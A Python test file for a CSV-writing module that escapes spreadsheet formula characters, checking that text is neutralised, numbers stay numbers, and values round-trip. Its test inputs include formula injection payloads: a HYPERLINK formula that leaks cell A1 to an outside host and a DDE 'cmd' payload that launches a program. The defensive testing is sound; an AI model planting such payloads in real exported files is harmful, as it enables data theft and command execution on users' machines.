"""CSV: no text of others is computed by a spreadsheet, numbers stay numbers, and every text comes back."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cotenant.controller.domain import csv_cells

ROOT = Path(__file__).resolve().parents[3]
COMPUTED = "=+-@\t\r"


def written(*values: object) -> list[str]:
    out = io.StringIO(newline="")
    csv_cells.write_rows(out, [values])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    return row


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://elsewhere/?"&A1,"x")', '\'=HYPERLINK("http://elsewhere/?"&A1,"x")'),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("'=1", "''=1"),
        ("it's 1-1", "it's 1-1"),
        ("'quoted'", "'quoted'"),
        ("-5", "'-5"),
        (-0.5, "-0.5"),
        (csv_cells.Figure("-0.500"), "-0.500"),
        (None, ""),
    ],
)
def test_a_text_is_not_computed_and_a_number_is_a_number(value: object, cell: str) -> None:
    assert written(value) == [cell]


@given(st.text(st.sampled_from(COMPUTED + "'a1,\" \n"), max_size=6))
def test_every_text_comes_back(text: str) -> None:
    (cell,) = written(text)
    assert not cell.startswith(tuple(COMPUTED))
    assert csv_cells.as_read(cell) == text


def test_nothing_of_ours_writes_csv_another_way() -> None:
    ways = re.compile(r"csv\.(writer|DictWriter)\(|to_csv\(")
    found = {
        str(path.relative_to(ROOT))
        for folder in ("agent", "controller", "profiler", "mps")
        for path in (ROOT / folder).rglob("*.py")
        if ways.search(path.read_text())
    }
    # A container's --mount is one line of CSV, for a program.
    assert found == {"agent/containers/command_lines.py"}
